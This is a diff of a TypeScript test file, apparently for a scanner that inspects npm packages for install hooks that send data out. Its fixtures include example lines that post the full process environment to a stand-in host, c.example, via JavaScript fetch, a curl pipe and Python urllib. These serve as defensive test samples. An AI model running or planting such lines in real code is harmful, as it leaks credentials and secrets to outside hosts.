@@ -2,7 +2,7 @@ import t from 'tap'
 import { inspect } from '../../src/inspection/inspect.ts'
 import { sha256 } from '../../src/model/digest.ts'
 import type { ContentFacts } from '../../src/model/fact.ts'
-import { readingOf } from './python-reading.ts'
+import { packedReading } from './python-reading.ts'
 
 const SENDS = `fetch('https://c.example/', { method: 'POST', body: JSON.stringify(process.env) })\n`
 const SHELL_SENDS = 'env | curl -d @- https://c.example\n'
@@ -10,9 +10,9 @@ const PYTHON_SENDS = `import os, urllib.request\nurllib.request.urlopen('https:/
 
 type Files = Readonly<Record<string, string | Buffer>>
 
-function inspected(manifest: object, files: Files): Promise<ContentFacts> {
+async function inspected(manifest: object, files: Files): Promise<ContentFacts> {
   const all = { 'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', ...manifest }), ...files }
-  return inspect(readingOf('npm-tarball', all), { digest: sha256('x'), readAs: 'npm-tarball' })
+  return inspect(await packedReading('npm-tarball', all), { digest: sha256('x'), readAs: 'npm-tarball' })
 }
 
 /** Hooks of which only the package tells what they run; `files` besides the one that sends. */
